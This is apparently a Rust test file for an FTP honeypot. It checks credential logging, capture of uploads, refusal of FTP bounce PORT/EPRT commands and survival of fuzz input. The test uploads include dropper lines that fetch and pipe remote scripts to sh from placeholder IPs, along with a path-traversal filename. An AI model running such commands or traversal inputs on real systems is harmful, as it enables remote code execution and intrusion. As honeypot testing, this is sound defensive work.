//! ftp against Python's ftplib: the vsftpd banner, USER/PASS logged byte-exact, the bait
//! listing over PASV and EPSV and in active mode (PORT, EPRT), RETR → `download_attempt`,
//! STOR captured to the artifacts directory with its sha256, PORT to anyone but the
//! client refused without a packet sent, and survival of garbage.
mod services_common;

use std::process::Command;

use services_common::{Fuzz, Service, run, secret, seed, tool};
use sha2::{Digest, Sha256};

/// A password with spaces, quotes, `]`, `\`, UTF-8 and a byte that is not UTF-8.
const NASTY: &[u8] = b"p a\"s]s\\w'\xc3\xb6\xffrd";

const CLIENT: &str = r#"
import ftplib, sys, io
port = int(sys.argv[1])
ftp = ftplib.FTP()
ftp.encoding = "latin-1"
print("BANNER", ftp.connect("127.0.0.1", port, timeout=20))
pw = bytes.fromhex(sys.argv[2]).decode("latin-1")
print("LOGIN", ftp.login("backup", pw))
ftp.set_pasv(True)
names = ftp.nlst()
print("NLST", ",".join(names))
lines = []
ftp.retrlines("LIST", lines.append)
print("LIST", len(lines))
buf = io.BytesIO()
ftp.retrbinary("RETR README.txt", buf.write)
print("README", len(buf.getvalue()))
ftp.af = 10  # force EPSV for the upload
ftp.storbinary("STOR ../../tmp/x y.sh", io.BytesIO(bytes.fromhex(sys.argv[3])))
print("QUIT", ftp.quit())
"#;

/// An ftp service that accepts every login and keeps uploads in the returned directory.
fn capturing_ftp(n: u8, name: &str, distro: &str) -> (tempfile::TempDir, Service) {
    let artifacts = tempfile::tempdir().expect("tempdir");
    let dir = artifacts.path().to_string_lossy().into_owned();
    let svc = Service::start(
        "ftp",
        &seed(n),
        name,
        distro,
        &[("FTP_LOGIN_MODE", "always"), ("FTP_ARTIFACTS_DIR", &dir)],
    );
    (artifacts, svc)
}

#[test]
fn ftplib_session_is_logged_and_uploads_are_captured() {
    if !tool("python3") {
        return;
    }
    let (artifacts, mut svc) = capturing_ftp(1, "files-01", "ubuntu22");
    let upload = b"#!/bin/sh\nwget http://203.0.113.5/x\n".to_vec();
    let out = run(Command::new("python3").args([
        "-c",
        CLIENT,
        &svc.port.to_string(),
        &hex::encode(NASTY),
        &hex::encode(&upload),
    ]));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("BANNER 220 (vsFTPd 3.0.5)"), "{text}");
    assert!(text.contains("LOGIN 230 Login successful."), "{text}");
    assert!(text.contains("NLST README.txt,.htaccess,"), "{text}");
    assert!(text.contains("QUIT 221 Goodbye."), "{text}");

    assert_eq!(svc.next("user").fields.get("username"), Some("backup"));
    let auth = svc.next("auth_attempt");
    assert_eq!(auth.fields.get("principal"), Some("backup"));
    assert_eq!(secret(&auth), NASTY);
    assert_eq!(auth.attacker_ip.as_deref(), Some("127.0.0.1"));
    let download = svc.next("download_attempt");
    assert_eq!(download.fields.get("path"), Some("README.txt"));
    assert!(
        download.attacker_ip.is_some(),
        "ftp events carry the attacker's address"
    );
    let file = svc.next("file_captured");
    let sha = hex::encode(Sha256::digest(&upload));
    assert_eq!(file.fields.get("sha256"), Some(sha.as_str()));
    assert_eq!(file.fields.get("orig_path"), Some("../../tmp/x y.sh"));
    let stored = file.fields.get("stored_as").expect("stored_as");
    assert!(
        stored.ends_with(&format!("_{}_x_y.sh", &sha[..12])),
        "{stored}"
    );
    let kept = std::fs::read(artifacts.path().join(stored)).expect("file in artifacts");
    assert_eq!(kept, upload);
}

/// Active mode with ftplib (`set_pasv(False)`: PORT), EPRT by hand, and the refusals: a
/// PORT naming another loopback address where a listener waits (and must see nothing)
/// and one naming a privileged port of the client.
const ACTIVE_CLIENT: &str = r#"
import ftplib, sys, io, socket
port = int(sys.argv[1])
ftp = ftplib.FTP()
ftp.connect("127.0.0.1", port, timeout=20)
ftp.login("backup", "s3cret")
ftp.set_pasv(False)
print("NLST", ",".join(ftp.nlst()))
lines = []
print("LISTEND", ftp.retrlines("LIST", lines.append))
print("LIST", len(lines))
buf = io.BytesIO()
print("RETREND", ftp.retrbinary("RETR README.txt", buf.write))
print("README", buf.getvalue().hex())
print("STOREND", ftp.storbinary("STOR drop.sh", io.BytesIO(bytes.fromhex(sys.argv[2]))))

srv = socket.create_server(("127.0.0.1", 0))
srv.settimeout(10)
print("EPRT", ftp.sendcmd("EPRT |1|127.0.0.1|%d|" % srv.getsockname()[1]))
ftp.putcmd("NLST")
conn, addr = srv.accept()
print("EPRTFROM", addr[0])
print("EPRT150", ftp.getresp())
data = b""
while True:
    chunk = conn.recv(4096)
    if not chunk:
        break
    data += chunk
conn.close()
print("EPRTNLST", data.decode().replace("\r\n", ","))
print("EPRT226", ftp.getresp())

other = socket.create_server(("127.0.0.2", 0))
other.settimeout(3)
p = other.getsockname()[1]
for cmd in ["PORT 127,0,0,2,%d,%d" % (p >> 8, p & 255), "PORT 127,0,0,1,0,21", "EPRT |1|127.0.0.2|%d|" % p]:
    try:
        print("REFUSE", ftp.sendcmd(cmd))
    except ftplib.error_perm as e:
        print("REFUSE", e)
try:
    ftp.sendcmd("LIST")
except ftplib.Error as e:
    print("AFTER", e)
try:
    other.accept()
    print("BOUNCED")
except socket.timeout:
    print("NOBOUNCE")
print("QUIT", ftp.quit())
"#;

#[test]
fn active_mode_connects_back_to_the_client_only() {
    if !tool("python3") {
        return;
    }
    let (artifacts, mut svc) = capturing_ftp(3, "files-03", "debian");
    let upload = b"#!/bin/sh\ncurl -s http://198.51.100.9/a | sh\n".to_vec();
    let out = run(Command::new("python3").args([
        "-c",
        ACTIVE_CLIENT,
        &svc.port.to_string(),
        &hex::encode(&upload),
    ]));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = |key: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{key} ")))
            .unwrap_or_else(|| panic!("no {key} in {text}"))
            .to_owned()
    };
    assert!(line("NLST").starts_with("README.txt,.htaccess,"), "{text}");
    assert_eq!(line("LISTEND"), "226 Directory send OK.");
    assert_eq!(line("RETREND"), "226 Transfer complete.");
    let readme = hex::decode(line("README")).expect("hex");
    assert!(
        String::from_utf8_lossy(&readme).contains("backups"),
        "{text}"
    );
    assert_eq!(line("STOREND"), "226 Transfer complete.");
    assert_eq!(
        line("EPRT"),
        "200 EPRT command successful. Consider using EPSV."
    );
    assert_eq!(line("EPRTFROM"), "127.0.0.1");
    assert_eq!(line("EPRT150"), "150 Here comes the directory listing.");
    assert!(
        line("EPRTNLST").starts_with("README.txt,.htaccess,"),
        "{text}"
    );
    assert_eq!(line("EPRT226"), "226 Directory send OK.");
    let refusals: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("REFUSE "))
        .collect();
    assert_eq!(
        refusals,
        [
            "500 Illegal PORT command.",
            "500 Illegal PORT command.",
            "500 Illegal EPRT command."
        ],
        "{text}"
    );
    assert_eq!(line("AFTER"), "425 Use PORT or PASV first.");
    assert!(
        text.contains("NOBOUNCE"),
        "no connection to 127.0.0.2: {text}"
    );
    assert!(text.contains("QUIT 221 Goodbye."), "{text}");

    let port = svc.next("port_command");
    assert_eq!(port.fields.get("verb"), Some("PORT"));
    assert_eq!(port.fields.get("target_ip"), Some("127.0.0.1"));
    assert_eq!(port.fields.get("outcome"), Some("accepted"));
    assert_eq!(port.attacker_ip.as_deref(), Some("127.0.0.1"));
    let connect = svc.next("data_connect");
    assert_eq!(connect.fields.get("outcome"), Some("connected"));
    assert_eq!(
        connect.fields.get("target_port"),
        port.fields.get("target_port")
    );
    assert_eq!(
        svc.next("download_attempt").fields.get("path"),
        Some("README.txt")
    );
    let file = svc.next("file_captured");
    let sha = hex::encode(Sha256::digest(&upload));
    assert_eq!(file.fields.get("sha256"), Some(sha.as_str()));
    let stored = file.fields.get("stored_as").expect("stored_as");
    assert_eq!(
        std::fs::read(artifacts.path().join(stored)).expect("file in artifacts"),
        upload
    );
    let eprt = svc.next("port_command");
    assert_eq!(eprt.fields.get("verb"), Some("EPRT"));
    assert_eq!(eprt.fields.get("outcome"), Some("accepted"));
    let mut refused = Vec::new();
    while refused.len() < 3 {
        let e = svc.next("port_command");
        assert_eq!(e.fields.get("outcome"), Some("refused"));
        refused.push(e.fields.get("reason").unwrap_or_default().to_owned());
    }
    assert_eq!(
        refused,
        ["foreign_address", "privileged_port", "foreign_address"]
    );
}

#[test]
fn refused_logins_and_garbage() {
    if !tool("python3") {
        return;
    }
    let mut svc = Service::start(
        "ftp",
        &seed(2),
        "files-02",
        "debian",
        &[("FTP_LOGIN_MODE", "never")],
    );
    let reply = svc.raw(b"USER root\r\nPASS toor\r\nLIST\r\nQUIT\r\n");
    let reply = String::from_utf8_lossy(&reply).into_owned();
    assert!(reply.starts_with("220 (vsFTPd 3.0.3)\r\n331 Please specify the password.\r\n530 Login incorrect.\r\n530 Please login with USER and PASS.\r\n221 Goodbye.\r\n"), "{reply}");
    assert_eq!(secret(&svc.next("auth_attempt")), b"toor");
    let mut fuzz = Fuzz::new(2);
    for round in 0..40 {
        let len = usize::try_from(fuzz.next() % 3000).unwrap_or(0);
        let data = if round % 2 == 0 {
            fuzz.bytes(len)
        } else {
            [&b"USER a\r\nPASS b\r\nPASV\r\nRETR "[..], &fuzz.bytes(len)].concat()
        };
        svc.raw(&data);
    }
    assert!(svc.alive(), "the server survived");
    let again = String::from_utf8_lossy(&svc.raw(b"QUIT\r\n")).into_owned();
    assert!(again.ends_with("221 Goodbye.\r\n"), "{again}");
}
